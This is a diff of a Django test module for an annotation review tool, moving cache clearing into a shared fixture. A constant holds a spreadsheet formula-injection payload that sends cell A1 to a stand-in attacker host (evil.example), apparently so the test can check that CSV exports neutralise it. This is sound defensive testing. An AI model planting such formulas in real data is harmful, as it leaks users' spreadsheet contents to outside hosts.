@@ -12,18 +12,13 @@ from django.urls import reverse
 
 from annotator.models import Sample
 from review.roles import AUDITOR
-from review.selectors.audit import clear_audit_cache
 from tests.factories import UserFactory
 from tests.review.selectors.test_audit import make_audit_world
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'
 
 
-@pytest.fixture(autouse=True)
-def _empty_cache():
-    clear_audit_cache()
-    yield
-    clear_audit_cache()
+pytestmark = pytest.mark.usefixtures("empty_audit_cache")
 
 
 def test_drilldown_csv_neutralises_imported_text(client, db):
